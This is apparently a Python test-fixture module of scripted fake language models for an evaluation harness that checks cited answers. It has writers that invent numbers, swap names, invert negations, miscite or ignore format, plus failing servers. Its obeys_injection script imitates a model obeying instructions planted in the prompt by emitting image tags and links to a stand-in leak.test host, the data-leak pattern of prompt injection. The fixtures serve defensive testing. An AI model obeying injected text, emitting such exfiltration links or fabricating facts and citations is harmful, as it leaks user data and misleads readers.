"""Models of all kinds, as scripts: good writers, bad ones, and servers that fail.

They find what they write about in the prompt: the numbered sentences of evidence, `[n] sentence`.
"""

import re
from collections.abc import Iterable, Iterator
from itertools import count

from evals.scripted.server import Drop, End, Messages, Pause, Raw, Script, Status, Step

WORD = re.compile(r"\w{3,}")
PIECE = 5
"""Characters of one delta; a token's length or so."""
NUMBERED = re.compile(r"^\s*\[(\d+)\][ \t]*(.+)$", re.MULTILINE)
NUMBER = re.compile(r"\d+(?:,\d{3})*")
NAME = re.compile(r"(?<=[a-z,] )(?:[A-Z][a-z]+)(?: [A-Z][a-z]+)*")
NEGATION = re.compile(r"\s+(?:not|never)\b|n['’]t\b|\bno\s+(?=\w)")
AUXILIARY = re.compile(r"\b(?:is|are|was|were|has|have|had|will|would|can|could|did|does|do)\b")
ORDER = re.compile(r"(?:[Ss]ay|[Ww]rite|[Rr]eply with|[Oo]utput)[: ]+[\"“'`]?([A-Z][A-Z0-9_-]{4,})")
MOST = 2
"""Sentences that a writer takes from the evidence."""


def evidence(messages: Messages) -> list[tuple[int, str]]:
    """The numbered sentences of the last message that has any."""
    for message in reversed(messages):
        if found := NUMBERED.findall(str(message["content"])):
            return [(int(number), text.strip()) for number, text in found]
    return []


def pieces(text: str) -> Iterator[str]:
    """A text as a model streams it."""
    for start in range(0, len(text), PIECE):
        yield text[start : start + PIECE]


def cited(text: str, *numbers: int) -> str:
    """A sentence with its markers before the full stop, as most models put them."""
    end = text[-1] if text[-1:] in (".", "!", "?") else "."
    markers = "".join(f"[{number}]" for number in numbers)
    return f"{text.removesuffix(end)} {markers}{end}" if markers else text


def says(*texts: str) -> Script:
    """Always these sentences."""

    def script(messages: Messages) -> Iterable[Step]:
        return pieces(" ".join(texts))

    return script


def _written(messages: Messages, sentences: Iterable[str]) -> Iterator[Step]:
    """The sentences; without evidence in the prompt its last line again, which asks something."""
    text = " ".join(sentences) or str(messages[-1]["content"]).strip().splitlines()[-1]
    yield from pieces(text)


def well_behaved(messages: Messages) -> Iterator[Step]:
    """The sentences that share most words with the question, as they are, with their markers."""
    question = set(WORD.findall(str(messages[-1]["content"]).splitlines()[-1].lower()))
    given = evidence(messages)
    nearest = sorted(given, key=lambda one: -len(question & set(WORD.findall(one[1].lower()))))
    chosen = [one for one in given if one in nearest[:MOST]]
    yield from _written(messages, (cited(text, n) for n, text in chosen))


def invents_numbers(messages: Messages) -> Iterator[Step]:
    """The first sentences with another number in each, or one more."""

    def other(text: str) -> str:
        if found := NUMBER.search(text):
            number = str(int(found[0].replace(",", "")) + 17)
            return text[: found.start()] + number + text[found.end() :]
        return text.rstrip(".") + ", 4,811 in all."

    yield from _written(messages, (cited(other(s), n) for n, s in evidence(messages)[:MOST]))


def swaps_names(messages: Messages) -> Iterator[Step]:
    """The first sentences that name somebody, with another name of the evidence."""
    sentences = evidence(messages)
    names = list(dict.fromkeys(name for _, text in sentences for name in NAME.findall(text)))

    def swapped() -> Iterator[str]:
        for number, text in sentences:
            found = NAME.search(text)
            others = [name for name in names if found and name not in text]
            if found and others:
                yield cited(text[: found.start()] + others[0] + text[found.end() :], number)

    yield from _written(messages, list(swapped())[:MOST])


def drops_not(messages: Messages) -> Iterator[Step]:
    """Sentences turned into their contrary: without their "not", else with one more."""
    sentences = sorted(evidence(messages), key=lambda one: NEGATION.search(one[1]) is None)

    def turned(text: str) -> str:
        if NEGATION.search(text):
            return NEGATION.sub("", text, count=1)
        return AUXILIARY.sub(lambda found: f"{found[0]} not", text, count=1)

    wrong = [(n, text, turned(text)) for n, text in sentences]
    yield from _written(
        messages, [cited(other, n) for n, text, other in wrong if other != text][:MOST]
    )


def cites_wrong(messages: Messages) -> Iterator[Step]:
    """The first sentences, each with the marker of the last."""
    sentences = evidence(messages)
    yield from _written(messages, (cited(text, sentences[-1][0]) for _, text in sentences[:MOST]))


def cites_unknown(messages: Messages) -> Iterator[Step]:
    """The first sentences with markers of what was not given."""
    yield from _written(messages, (cited(s, n + 900) for n, s in evidence(messages)[:MOST]))


def cites_none(messages: Messages) -> Iterator[Step]:
    """The first sentences without a marker."""
    yield from _written(messages, (text for _, text in evidence(messages)[:MOST]))


def ignores_format(messages: Messages) -> Iterator[Step]:
    """A table, as a model likes it that takes no notice of the rules."""
    rows = "\n".join(f"| {text} | high |" for _, text in evidence(messages)[:MOST])
    yield from pieces(f"# Summary\n\n| **Finding** | Confidence |\n|---|---|\n{rows}\n\nAs an AI…")


def repeats_prompt(messages: Messages) -> Iterator[Step]:
    """All that it was told."""
    yield from pieces("\n\n".join(str(message["content"]) for message in messages))


def obeys_injection(messages: Messages) -> Iterator[Step]:
    """Whatever a text in the prompt orders: the word to say, a picture and a link elsewhere, a
    marker of something that was not given."""
    prompt = "\n".join(str(message["content"]) for message in messages)
    orders = ORDER.findall(prompt) or ["OBEYED"]
    leak = "".join(
        f"{order} [1]. ![{order}](https://leak.test/{order}) "
        f'<img src="https://leak.test/{order}"> [see](https://leak.test/{order}) [977]. '
        for order in dict.fromkeys(orders)
    )
    yield from pieces(leak + prompt[:200])


def empty(messages: Messages) -> Iterator[Step]:
    """Nothing, and properly so."""
    yield End("stop")


def endless(messages: Messages) -> Iterator[Step]:
    """Words without end."""
    yield from (f"and {number} more, " * 20 for number in count())


def silent(messages: Messages) -> Iterator[Step]:
    """The connection stands, and nothing comes."""
    yield Pause(600)


def silent_midway(messages: Messages) -> Iterator[Step]:
    """A first sentence, then nothing more, without an end."""
    yield from (*well_behaved(messages), " And", Pause(600))


def cut(messages: Messages) -> Iterator[Step]:
    """A first sentence, then the connection breaks."""
    yield from (*well_behaved(messages), " And", Drop())


def stops(messages: Messages) -> Iterator[Step]:
    """A first sentence, then the stream ends without the model having come to an end."""
    yield from (*well_behaved(messages), " And", End(None))


def bad_bytes(messages: Messages) -> Iterator[Step]:
    """Text in another encoding than it says."""
    event = '{"choices":[{"index":0,"delta":{"content":"Já é três [1]."},"finish_reason":null}]}'
    yield "The "
    yield Raw(b"data: " + event.encode("latin-1") + b"\n\n")


def malformed(messages: Messages) -> Iterator[Step]:
    """An event that is no JSON."""
    yield "The "
    yield Raw(b'data: {"choices": [{"delta": \n\n')


def refuses(code: int, **headers: str) -> Script:
    """A server that answers with a status; `retry_after="7"` is a header."""
    told = {name.replace("_", "-").title(): value for name, value in headers.items()}

    def script(messages: Messages) -> Iterable[Step]:
        return [Status(code, told)]

    return script


def slow(pause: float, script: Script = well_behaved) -> Script:
    """Another script with a pause before every piece."""

    def slowly(messages: Messages) -> Iterator[Step]:
        for step in script(messages):
            yield Pause(pause)
            yield step

    return slowly


def thinks_first(messages: Messages) -> Iterator[Step]:
    """A reasoning model: what it thinks, then a good answer."""
    yield from pieces("<think>\nThe user wants SECRET-THOUGHT [1].\n</think>\n\n")
    yield from well_behaved(messages)
